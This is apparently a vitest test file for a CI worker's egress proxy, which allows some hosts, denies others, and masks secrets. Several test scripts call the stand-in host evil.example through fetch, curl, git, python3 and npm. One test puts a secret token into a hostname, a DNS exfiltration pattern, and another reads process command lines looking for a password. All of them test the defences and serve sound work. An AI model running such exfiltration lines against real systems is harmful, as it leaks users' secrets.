import { spawn, spawnSync } from 'node:child_process';
import { once } from 'node:events';
import { connect } from 'node:net';
import { resolve } from 'node:path';
import { buffer } from 'node:stream/consumers';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import type { PlanStep } from '../../../src/pipeline/plan.ts';
import type { Lease } from '../../../src/protocol/lease.ts';
import { findIsolation } from '../../../src/worker/isolation.ts';
import { FarEnd, TLS_FILE } from './egress-world.ts';
import { leaseOf } from './leases.ts';
import { WorkRoom } from './work-room.ts';

let room: WorkRoom;
let far: FarEnd;
beforeEach(async () => {
  room = new WorkRoom();
  far = await FarEnd.open();
});
afterEach(async () => {
  room.remove();
  await far.close();
});

const script = (run: string, step: Partial<PlanStep> = {}): Lease =>
  leaseOf({}, { with: { run, shell: 'bash' }, egress: [`localhost:${far.port}`], ...step });

const NODE = process.execPath;
const fetchIn = (url: string, options = ''): string =>
  `'${NODE}' ${options} -e "fetch('${url}').then((r) => r.text()).then(console.log, (e) => console.log('failed', e.cause?.code))"`;
const hasProgram = (name: string): boolean => spawnSync('sh', ['-c', `command -v ${name}`]).status === 0;

describe('the programs of a step with egress', () => {
  it('are told of a proxy by every name that programs know', async () => {
    await room.run(script('env'), { hostEnv: { PATH: process.env.PATH, NO_PROXY: '*', no_proxy: '*' } });
    const env = new Map(room.log.split('\n').map((line) => line.split(/=(.*)/s).slice(0, 2) as [string, string]));
    const names = ['HTTP_PROXY', 'HTTPS_PROXY', 'ALL_PROXY', 'http_proxy', 'https_proxy', 'all_proxy'];
    for (const name of names) expect(env.get(name)).toMatch(/^http:\/\/step:\*\*\*@127\.0\.0\.1:\d+$/);
    expect([env.get('NO_PROXY'), env.get('no_proxy'), env.get('NODE_USE_ENV_PROXY')]).toEqual(['', '', '1']);
  });

  it('are told so whatever the pipeline’s env says', async () => {
    room.client.secretValues.https_proxy = 'http://elsewhere.example';
    const env = { HTTP_PROXY: 'http://elsewhere.example', NO_PROXY: '*', NODE_USE_ENV_PROXY: '0' };
    await room.run(
      script('echo "$HTTP_PROXY|$https_proxy|$NO_PROXY|$NODE_USE_ENV_PROXY"', { env, secrets: ['https_proxy'] }),
    );
    expect(room.log).toMatch(/^(http:\/\/step:\*\*\*@127\.0\.0\.1:\d+\|){2}\|1\n/);
  });

  it('are not told of any where the step lists nothing: it is not held', async () => {
    await room.run(script(`env; ${fetchIn(`http://localhost:${far.port}`)}`, { egress: [] }));
    expect(room.log.toLowerCase()).not.toContain('_proxy');
    expect(room.log).toContain('\nok\n');
    expect(room.log).not.toContain('egress');
  });

  it('reach what it lists, which the log tells', async () => {
    const outcome = await room.run(script(fetchIn(`http://localhost:${far.port}/path?query=1`)));
    expect(far.seen).toMatchObject([{ url: '/path?query=1' }]);
    expect(room.log).toMatch(
      new RegExp(`^ok\n\\[maestro\\] egress allowed localhost:${far.port} once, \\d+ bytes sent, \\d+ received\n$`),
    );
    expect(room.log).not.toContain('path');
    expect(outcome).toMatchObject({ kind: 'succeeded', annotations: [] });
  });

  it('do not reach the rest, which the log tells, and a warning says which entries are missing', async () => {
    const run = `printf 'half a line'; ${fetchIn(`http://127.0.0.1:${far.port}/`)} >/dev/null; ${fetchIn('https://evil.example')} >/dev/null`;
    const outcome = await room.run(script(run));
    expect(far.seen).toEqual([]);
    const reason = 'the step’s egress does not list it';
    expect(room.log).toBe(
      `half a line\n[maestro] egress denied 127.0.0.1:${far.port} once: ${reason}\n[maestro] egress denied evil.example:443 once: ${reason}\n`,
    );
    expect(outcome.annotations).toEqual([
      {
        level: 'warning',
        message: `egress denied: 127.0.0.1:${far.port} (${reason}); evil.example:443 (${reason}). Add to the step’s \`egress\` what is meant`,
      },
    ]);
  });

  it('reach a listed far end by TLS that nobody opens', async () => {
    const tlsEnd = await FarEnd.open(true);
    const env = { NODE_EXTRA_CA_CERTS: TLS_FILE };
    const step = { egress: [`localhost:${tlsEnd.port}`], env };
    await room.run(script(fetchIn(`https://localhost:${tlsEnd.port}/x`), step));
    expect(room.log).toMatch(/^ok\n/);
    expect(tlsEnd.seen).toMatchObject([{ url: '/x' }]);
    await tlsEnd.close();
  });

  const CLIENTS: readonly (readonly [string, (url: string) => string])[] = [
    ['curl', (url) => `curl -sS ${url}x`],
    ['git', (url) => `git ls-remote ${url}x.git`],
    ['python3', (url) => `python3 -c "import urllib.request as u; u.urlopen('${url}')"`],
    ['npm', (url) => `npm view x --registry=${url} --fetch-retries=0`],
  ];
  describe.each(CLIENTS)('where they are %s', (program, command) => {
    it.skipIf(!hasProgram(program))('are held as well', async () => {
      const urls = [`http://localhost:${far.port}/`, 'https://evil.example/'];
      await room.run(script(urls.map((url) => `${command(url)} || true`).join('\n')));
      expect(far.seen.length).toBeGreaterThan(0);
      expect(room.log).toContain(`[maestro] egress allowed localhost:${far.port} `);
      expect(room.log).toContain('[maestro] egress denied evil.example:443 ');
    });
  });

  it('print no secret by way of a host’s name, in whatever letters', async () => {
    room.client.secretValues.TOKEN = 'S3cretValue';
    const outcome = await room.run(
      script(`${fetchIn('https://$TOKEN.evil.example')} >/dev/null; ${fetchIn('http://x.$TOKEN.example')} >/dev/null`, {
        secrets: ['TOKEN'],
      }),
    );
    expect(room.log).toContain('egress denied ***.evil.example:443');
    expect(JSON.stringify([room.log, outcome]).toLowerCase()).not.toContain('s3cretvalue');
  });

  it('find nobody at their proxy once they have ended, also where the step is cancelled', async () => {
    const { attempt, outcome } = room.start(script('echo "at $HTTP_PROXY"; sleep 1000'));
    await room.client.until(() => room.log.includes('at http'));
    const port = Number(/:(\d+)\n/.exec(room.log)?.[1]);
    const there = connect(port, '127.0.0.1');
    await once(there, 'connect');
    const gone = once(there, 'close');
    there.resume();
    attempt.stop('cancelled');
    expect(await outcome).toMatchObject({ kind: 'cancelled' });
    await gone;
    await expect(once(connect(port, '127.0.0.1'), 'connect')).rejects.toMatchObject({ code: 'ECONNREFUSED' });
  });

  it('do not start where the worker’s own proxy cannot be used', async () => {
    const hostEnv = { PATH: process.env.PATH, HTTPS_PROXY: 'socks5://user:password@proxy.example' };
    const outcome = await room.run(script('echo ran'), { hostEnv });
    expect(outcome).toMatchObject({ kind: 'failed', errorCode: 'CONFIG_INVALID' });
    expect(JSON.stringify(outcome)).not.toContain('password');
    expect(room.log).toBe('');
  });

  it('share one proxy, and have one for each attempt', async () => {
    await room.run(script('echo $HTTP_PROXY; bash -c "echo \\$HTTP_PROXY"'));
    await room.run(leaseOf({ stepId: '1.1' }, { with: { run: 'echo $HTTP_PROXY' }, egress: ['a.example'] }));
    const [first, second] = room.client.logText('1.0').split('\n');
    expect(first).toBe(second);
    expect(room.client.logText('1.1').trim()).not.toBe(first);
  });
});

describe('steps of the worker’s own process', () => {
  it('hold themselves to their list, and have no proxy', async () => {
    const outcome = await room.run(
      leaseOf({}, { uses: 'http', with: { url: `http://localhost:${far.port}/` }, egress: [`localhost:${far.port}`] }),
    );
    expect(outcome).toMatchObject({ kind: 'succeeded', annotations: [] });
    expect(room.log).not.toContain('egress');
    const denied = leaseOf({}, { uses: 'http', with: { url: `http://127.0.0.1:${far.port}/` }, egress: ['a.example'] });
    expect(await room.run(denied)).toMatchObject({ kind: 'failed', errorCode: 'POLICY_DENIED' });
  });
});

const isolation = findIsolation(Math.random);
describe.runIf(isolation.kind === 'user')('the programs of a step of another user (needs root and setpriv)', () => {
  it('reach the proxy of their worker, and read its password in no command line', async () => {
    const run = `echo "by $(id -u)"; cat /proc/[0-9]*/cmdline | tr '\\0' ' '; ${fetchIn(`http://localhost:${far.port}/x`)}`;
    const worker = spawn(NODE, [resolve(import.meta.dirname, 'isolated-worker.ts')], {
      stdio: ['pipe', 'pipe', 'inherit'],
    });
    worker.stdin.end(JSON.stringify({ with: { run }, egress: [`localhost:${far.port}`] }));
    const { log } = JSON.parse((await buffer(worker.stdout)).toString()) as { readonly log: string };
    expect(log).toMatch(/^by 6\d{4}\n/);
    expect(log).not.toContain('step:');
    expect(log).toContain(`[maestro] egress allowed localhost:${far.port} once`);
    expect(far.seen).toMatchObject([{ url: '/x' }]);
  });
});
